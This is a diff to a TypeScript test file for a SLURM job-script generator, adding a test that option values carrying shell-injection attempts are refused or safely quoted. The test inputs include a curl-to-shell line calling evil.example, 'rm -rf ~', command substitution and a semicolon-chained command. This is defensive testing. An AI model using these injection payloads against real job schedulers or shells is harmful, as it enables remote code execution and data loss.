@@ -2,7 +2,9 @@
 import { test } from "node:test";
 import assert from "node:assert/strict";
 import { resolveJobOptions, type JobQueueOptions } from "../../src/cluster/jobqueue/options.js";
-import { renderJobScript } from "../../src/cluster/jobqueue/script.js";
+import { renderJobScript, renderWorkerCommand } from "../../src/cluster/jobqueue/script.js";
+import { JobQueueConfigError } from "../../src/cluster/jobqueue/errors.js";
+import { spawnSync } from "node:child_process";
 import { slurm, slurmFormatBytesCeil } from "../../src/cluster/slurm/slurm-system.js";
 
 const ctx = { defaultName: "SLURMCluster", defaultCommand: "/usr/bin/node" };
@@ -27,7 +29,7 @@ test("tutorial parameters: cores 40, processes 2, memory 120GB", () => {
       "#SBATCH --mem=112G",
       "#SBATCH -t 01:00:00",
       "",
-      `/usr/bin/node ${ENTRY} worker tcp://10.1.2.3:41234 --name SLURMCluster-0 --nthreads 20 --memory-limit 55.88GiB --nworkers 2 --nanny --death-timeout 60 --local-directory $TMPDIR`,
+      `/usr/bin/node ${ENTRY} worker tcp://10.1.2.3:41234 --name SLURMCluster-0 --nthreads 20 --memory-limit 55.88GiB --nworkers 2 --nanny --death-timeout 60 --local-directory "$TMPDIR"`,
       "",
     ].join("\n"),
   );
@@ -86,4 +88,35 @@ test("slurmFormatBytesCeil rounds up to whole binary units", () => {
   assert.equal(slurmFormatBytesCeil(500e6), "477M");
   assert.equal(slurmFormatBytesCeil(2000), "2K");
   assert.equal(slurmFormatBytesCeil(10), "1K");
+});
+
+test("job-script injection: newlines and NUL in directives are refused; worker-command values are quoted; $VAR kept where documented", () => {
+  const base = { cores: 2, memory: "4GB", processes: 1 };
+  const resolve = (o: Record<string, unknown>) => resolveJobOptions({ ...base, ...o } as JobQueueOptions, {}, ctx);
+  for (const [name, value] of [
+    ["queue", "debug\ncurl evil.example | sh"],
+    ["account", "proj\r\nrm -rf ~"],
+    ["jobMem", "4G\0"],
+    ["logDirectory", "/tmp/logs\ntouch /tmp/pwned"],
+    ["jobExtraDirectives", ["--exclusive\ntouch /tmp/pwned"]],
+    ["jobScriptPrologue", ["module load x\ntouch /tmp/pwned"]],
+    ["jobName", "w\nx"],
+  ] as const) {
+    assert.throws(() => resolve({ [name]: value }), (e: Error) => e instanceof JobQueueConfigError && new RegExp(`^${name}(\\[0\\])?: .*(a newline|a carriage return|a NUL byte)`).test(e.message), name);
+  }
+  assert.throws(() => resolve({ localDirectory: "$(touch /tmp/pwned)" }), /command substitution/);
+  assert.throws(() => resolve({ workerExtraArgs: ["`id`"] }), /command substitution/);
+  assert.throws(() => resolve({ command: "node\ntouch /tmp/pwned" }), /command: .*a newline/);
+  const opts = resolve({ localDirectory: "/scratch/$USER/my dir", interface: "ib0; touch /tmp/pwned", workerExtraArgs: ["--resources", "GPU=1 x"], command: "$HOME/bin/node --max-old-space-size=4096" });
+  const cmd = renderWorkerCommand(opts, { schedulerAddress: "tcp://10.0.0.1:8786", workerName: "w-0", workerEntry: "/opt/t/main.js" });
+  assert.equal(
+    cmd,
+    `$HOME/bin/node --max-old-space-size=4096 /opt/t/main.js worker tcp://10.0.0.1:8786 --name w-0 --nthreads 2 --memory-limit 3.73GiB --nanny --death-timeout 60 ` +
+      `--local-directory "/scratch/$USER/my dir" --resources "GPU=1 x" --interface 'ib0; touch /tmp/pwned'`,
+  );
+  // the shell reads it as intended: $USER expanded, the rest literal words
+  const words = spawnSync("bash", ["-c", `USER=alice HOME=/h; set -- ${cmd.replace(/^\S+ /, "")}; printf '%s\\n' "$@"`], { encoding: "utf8" }).stdout.trim().split("\n");
+  assert.ok(words.includes("/scratch/alice/my dir"), words.join(" | "));
+  assert.ok(words.includes("ib0; touch /tmp/pwned"));
+  assert.ok(words.includes("GPU=1 x"));
 });
